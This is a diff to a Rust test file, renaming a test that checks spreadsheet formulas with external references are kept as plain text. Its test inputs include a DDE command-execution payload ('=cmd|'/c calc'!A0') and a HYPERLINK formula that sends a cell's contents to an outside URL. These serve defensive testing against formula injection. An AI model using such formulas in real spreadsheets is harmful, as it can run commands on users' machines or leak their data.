@@ -100,7 +100,7 @@ fn functions_of_lookup_dates_text_and_money_are_computed() {
 
 /// Proves S15.
 #[test]
-fn what_reaches_out_of_the_workbook_is_no_formula() {
+fn formulas_with_external_references_stay_text() {
     for source in [
         "=cmd|'/c calc'!A0",
         "=HYPERLINK(\"https://example.org/?\"&A1,\"click\")",
